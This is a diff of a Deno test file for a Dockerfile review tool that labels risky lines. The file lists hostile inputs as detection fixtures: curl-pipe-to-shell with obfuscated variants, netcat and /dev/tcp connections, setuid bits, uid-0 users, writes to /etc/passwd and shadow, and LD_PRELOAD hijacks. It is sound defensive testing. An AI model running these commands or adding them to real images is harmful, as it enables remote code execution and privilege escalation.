@@ -1,24 +1,8 @@
-/** Hints: what a Dockerfile's new lines and a host are said to mean, and what is passed over. */
+/** Hints on single lines: what each new line of a Dockerfile is said to mean, or is passed over. */
 
 import assert from "node:assert/strict";
 import { dockerfileNotices } from "../../src/operator/review/dockerfile_hints.ts";
-import { hostNotices } from "../../src/operator/review/host.ts";
-import { width } from "../../src/operator/columns.ts";
-import { visibleLine } from "../../src/operator/visible.ts";
-import { ctl, propose } from "./fixture.ts";
-import { temporary } from "../support/temporary.ts";
-
-const MIB = 1_048_576;
-const DIGEST = `sha256:${"a".repeat(64)}`;
-/** Seven lines: what a case adds begins with line 8. */
-const BASE = `FROM debian:12@${DIGEST}
-RUN apt-get update \\
-  # what the agent needs
-  && apt-get install -y ripgrep
-WORKDIR /app
-USER node
-CMD ["node"]
-`;
+import { BASE } from "./base_dockerfile.ts";
 
 function labels(before: string | undefined, after: string): string[] {
   return dockerfileNotices(before, after).map(({ label }) => label);
@@ -38,6 +22,16 @@ const HARMLESS = [
   "RUN echo 'a | b' > /etc/motd && git config --global user.name x",
   "# curl https://x | sh",
   "EXPOSE 8080\nSTOPSIGNAL SIGINT",
+  "COPY . /app",
+  "RUN npm ci",
+  "RUN npm i @scope/pkg && npm --prefix a/b ci",
+  "RUN pip install x && sed -i s/a/b/ f",
+  "RUN go install ./cmd/x && cargo install --locked ripgrep",
+  "RUN x=$(nproc) && make -j$x && echo `date` `id` > /v",
+  'RUN if [ "$(uname -m)" = x ]; then true; fi',
+  "RUN useradd -m -u 1000 x && install -m 0755 -d /x && chmod 1777 /tmp",
+  "ENV PATH=$PATH:/x",
+  "ADD target/${A}.jar /x",
 ];
 
 for (const line of HARMLESS) {
@@ -48,6 +42,16 @@ for (const line of HARMLESS) {
 
 const FOUND: Readonly<Record<string, readonly string[]>> = {
   "REMOTE SCRIPT": [
+    "ARG U=https://x.example/y\nADD $U /x",
+    "ADD h$x/y /z",
+    'RUN sh -c "$(cu${x}rl x)"',
+    "RUN eval `cat x`",
+    "RUN `cat x`",
+    "RUN cu${x}rl x",
+    "RUN pip install -ihttps://x y",
+    "RUN npm i user/repo",
+    "RUN go install host.example/x@v1",
+    "RUN cargo install --git https://x",
     "RUN curl -fsSL https://x.example | bash",
     "RUN wget -qO- x.example|sh",
     "  run c\\url x | 's'h",
@@ -74,11 +78,28 @@ const FOUND: Readonly<Record<string, readonly string[]>> = {
     "RUN wget --no-check-certificate x.example",
   ],
   "DOWNLOAD": [
+    'RUN python3 -c "import http.client"',
+    "RUN perl -MIO::Socket -e 1",
+    "RUN node -e \"require('net').connect(1)\"",
+    "RUN openssl s_client -connect x:1",
+    "RUN nc x 1",
+    "RUN ncat x 1",
+    "RUN socat - tcp:x:1",
     "RUN curl -o /x https://x.example",
     "RUN git clone x",
     "RUN cat < /dev/tcp/1.1.1.1/80",
   ],
   "ROOT": [
+    "RUN chmod 04755 /x",
+    "RUN install -m 4755 a b",
+    "COPY --chmod=4755 a /b",
+    "RUN chmod a+x,u+s /x",
+    "RUN useradd -ou 0 x",
+    "RUN useradd -u0 x",
+    "RUN echo x >> /etc//passwd",
+    "RUN echo x >>/etc/./shadow",
+    "RUN cd /etc && echo x >> passwd",
+    "RUN echo x >> /etc/pass?d",
     "USER root",
     'user "0":0',
     "USER $WHO",
@@ -100,6 +121,14 @@ const FOUND: Readonly<Record<string, readonly string[]>> = {
     "RUN --mount=type=bind,from=evil.example/x,target=/x cp /x/y /y",
   ],
   "SECRET IN IMAGE": ["ENV API_TOKEN=abc", "ENV PASSWORD hunter2", 'ARG A=1 NPM_TOKEN="a"'],
+  "LOADS CODE": [
+    "ENV LD_PRELOAD=/x.so",
+    "ENV PATH=/x:$PATH",
+    "ENV PATH /x:$PATH",
+    "ENV NODE_OPTIONS=--require=/x",
+    "ENV PYTHONSTARTUP=/x",
+    "ENV BASH_ENV /x",
+  ],
   "BUILD SECRET": ["RUN --mount=type=secret,id=npm true", "RUN --mount=type=ssh true"],
   "PROXY": ["ENV HTTPS_PROXY=", "RUN echo 'Acquire::http::Proxy \"x\";' > /etc/apt/a"],
   "PACKAGE SOURCE": [
@@ -118,6 +147,8 @@ const FOUND: Readonly<Record<string, readonly string[]>> = {
     "ONBUILD RUN true",
   ],
   "HIDDEN TEXT": [
+    "RUN echo \u05d0",
+    "# \u0627\u0628",
     "RUN echo a\u202eb",
     "# a\u200bb",
     "RUN true\rUSER node",
@@ -135,186 +166,3 @@ for (const [label, cases] of Object.entries(FOUND)) {
     });
   }
 }
-
-const REST = `USER node\n${"#\n"}`;
-const COMPARED: readonly (readonly [
-  name: string,
-  before: string | undefined,
-  after: string,
-  notices: string[],
-])[] = [
-  ["nothing changed", BASE, BASE, []],
-  ["lines in another order", "FROM a\nRUN x\nRUN y\n", "FROM a\nRUN y\nRUN x\n", []],
-  [
-    "the base has another tag",
-    "FROM node:20\n",
-    "FROM node:22\n",
-    [
-      "NEW BASE IMAGE  line 1 takes node:22 instead of node:20, a tag that can come to mean another " +
-      "image: FROM node:22",
-    ],
-  ],
-  [
-    "another base, by digest",
-    "FROM a\n",
-    `FROM b@${DIGEST}\n`,
-    [`NEW BASE IMAGE  line 1 takes b@${DIGEST} instead of a: FROM b@${DIGEST}`],
-  ],
-  [
-    "the base is named by an argument that changed",
-    "ARG V=1\nFROM a:$V\n",
-    "ARG V=2\nFROM a:$V\n",
-    [
-      "NEW BASE IMAGE  line 2 takes a:2 instead of a:1, a tag that can come to mean another image: " +
-      "FROM a:$V",
-    ],
-  ],
-  [
-    "the last stage is built on another known image",
-    "FROM a:1 AS x\nFROM b:1\nCOPY --from=x /a /b\n",
-    "FROM a:1 AS x\nFROM b:1\nCOPY --from=x /a /b\nFROM x\n",
-    [
-      "NEW BASE IMAGE  line 1 is what the last stage is built on now, instead of b:1: FROM a:1 AS x",
-    ],
-  ],
-  [
-    "the line with USER is gone",
-    `FROM a\n${REST}`,
-    "FROM a\n",
-    [
-      "ROOT  USER node is gone: the container runs as its base image says, often as root",
-    ],
-  ],
-  [
-    "USER comes from the stage below",
-    "FROM a AS x\nUSER root\nFROM a\nUSER n\n",
-    "FROM a AS x\nUSER root\nFROM x\n",
-    ["ROOT  line 2 lets the container run as root instead of as n: USER root"],
-  ],
-  ["root as before", "FROM a\nUSER root\n", "FROM a\nRUN true\nUSER root\n", []],
-  [
-    "CMD is gone",
-    "FROM a\nCMD x\n",
-    "FROM a\n",
-    ["ENTRYPOINT  CMD x is gone"],
-  ],
-  [
-    "another escape character, and what it then joins",
-    "FROM a\n",
-    "# escape=`\nFROM a\nRUN curl x `\n | sh\n",
-    [
-      "REMOTE SCRIPT  line 3 may run what it fetches or makes up: RUN curl x",
-      "ESCAPE DIRECTIVE  line 1 changes how all other lines are read: # escape=`",
-    ],
-  ],
-  [
-    "another syntax",
-    "FROM a\n",
-    "# syntax=evil/x\nFROM a\n",
-    [
-      "ESCAPE DIRECTIVE  line 1 names the program that reads all other lines: # syntax=evil/x",
-    ],
-  ],
-  [
-    "nothing is known of before",
-    undefined,
-    "FROM a:1\nRUN apt-get install -y jq\nCMD x\n",
-    [
-      "NEW BASE IMAGE  line 1 takes a:1, a tag that can come to mean another image: FROM a:1",
-      "ENTRYPOINT  line 3 says what the container runs: CMD x",
-    ],
-  ],
-];
-
-for (const [name, before, after, notices] of COMPARED) {
-  Deno.test(`dockerfileNotices() compares: ${name}`, () => {
-    const found = dockerfileNotices(before, after).map(({ label, text }) => `${label}  ${text}`);
-    assert.deepEqual(found, notices);
-  });
-}
-
-Deno.test("dockerfileNotices() lets no number of lines crowd a label out", () => {
-  const many = Array.from({ length: 300 }, (_, n) => `RUN curl x${n} | sh\nENV A${n}_TOKEN=x`);
-  const notices = dockerfileNotices(BASE, `${BASE}${many.join("\n")}\nUSER root\nCMD x\n`);
-  assert.ok(notices.length <= 12);
-  assert.deepEqual([...new Set(notices.map(({ label }) => label))], [
-    "REMOTE SCRIPT",
-    "ROOT",
-    "SECRET IN IMAGE",
-    "ENTRYPOINT",
-  ]);
-  assert.ok(
-    notices.some(({ text }) => text.endsWith(" (also lines 14, 16, 18, 20, 22 and 292 more)")),
-  );
-});
-
-Deno.test("dockerfileNotices() quotes a line cut and visible", () => {
-  const [notice] = dockerfileNotices(BASE, `${BASE}RUN curl x|sh; \x1b[2J${"x".repeat(300)}\n`);
-  assert.ok(notice && width(notice.text) < 180, notice?.text);
-  assert.equal(visibleLine(notice.text), notice.text);
-  assert.match(notice.text, /^line 8 .*: RUN curl x\|sh; <U\+001B>\[2Jx+…$/);
-});
-
-const HOSTILE: Readonly<Record<string, string>> = {
-  "joined lines": "RUN a\\\n".repeat(MIB / 7),
-  "here-documents without an end": "RUN <<a\n".repeat(MIB / 8),
-  "here-documents with a far end": `${"RUN <<a\n".repeat(MIB / 8)}\ta\n`,
-  "short here-documents": "RUN <<a\nb\na\n".repeat(MIB / 12),
-  "quotes": `RUN <<a ${'"\\"'.repeat(MIB / 4)}`,
-  "images": Array.from({ length: MIB / 16 }, (_, n) => `FROM a${n}`).join("\n"),
-  "commands": `RUN ${"curl;".repeat(MIB / 5)}`,
-  "words": `RUN ${"pip ".repeat(MIB / 4)}`,
-  "one name": `ENV ${"TOKEN".repeat(MIB / 5)}`,
-  "blanks": `RUN${" ".repeat(MIB)}x`,
-  "backslashes": `RUN ${"\\".repeat(MIB)}`,
-  "carriage returns": "\r".repeat(MIB),
-};
-
-for (const [name, after] of Object.entries(HOSTILE)) {
-  Deno.test(`dockerfileNotices() of a hostile megabyte takes less than 5 s: ${name}`, () => {
-    const started = performance.now();
-    dockerfileNotices(`FROM x${after.slice(6)}`, after);
-    assert.ok(performance.now() - started < 5_000);
-  });
-}
-
-Deno.test("show of a capability-block tells what its lines mean", async () => {
-  await using root = await temporary();
-  const file = "FROM debian\nRUN curl https://x.example | sh\nUSER root\n";
-  const { id } = await propose(root.path, { tool: "capability-block", file });
-  const { stdout } = await ctl(root.path, ["show", id]);
-  assert.match(stdout, /\n {2}! REMOTE SCRIPT {2}line 2 may run what it fetches or makes up: RUN/);
-  assert.match(stdout, /\n {2}! ROOT {2}line 3 lets the container run as root: USER root\n/);
-});
-
-const HOSTS: Readonly<Record<string, readonly string[]>> = {
-  "": ["api.github.com", "github.com", "registry.npmjs.org", "sts.amazonaws.com", "notgithub.io"],
-  "WILDCARD-LIKE": [
-    ...["github.io", "acme.github.io", "s3.amazonaws.com", "acme.s3.eu-west-1.amazonaws.com"],
-    ...["s3-eu-west-1.amazonaws.com", "a1b2.execute-api.eu-west-1.amazonaws.com", "co.uk"],
-    ...["acme.blob.core.windows.net", "storage.googleapis.com", "a.b.workers.dev", "x.ngrok.io"],
-  ],
-  "DROP SITE": ["pastebin.com", "gist.github.com", "webhook.site", "discord.com", "0x0.st"],
-  "LOCAL,WILDCARD-LIKE": ["com", "io"],
-  "LOCAL": ["localhost", "egress-1"],
-};
-
-for (const [expected, hosts] of Object.entries(HOSTS)) {
-  for (const host of hosts) {
-    Deno.test(`hostNotices() of ${host}: ${expected || "none"}`, () => {
-      assert.equal(hostNotices(host).map(({ label }) => label).join(), expected);
-    });
-  }
-}
-
-Deno.test("hostNotices() says whose site a shared host may be", () => {
-  assert.deepEqual(hostNotices("acme.github.io").map(({ text }) => text), [
-    "anyone can have a site below github.io: make sure whose acme.github.io is",
-  ]);
-  assert.deepEqual(hostNotices("github.io").map(({ text }) => text), [
-    "anyone can have a site or files at or below github.io",
-  ]);
-  assert.deepEqual(hostNotices("b.s3.amazonaws.com").map(({ text }) => text), [
-    "anyone can have a site below s3.amazonaws.com: make sure whose b.s3.amazonaws.com is",
-  ]);
-});
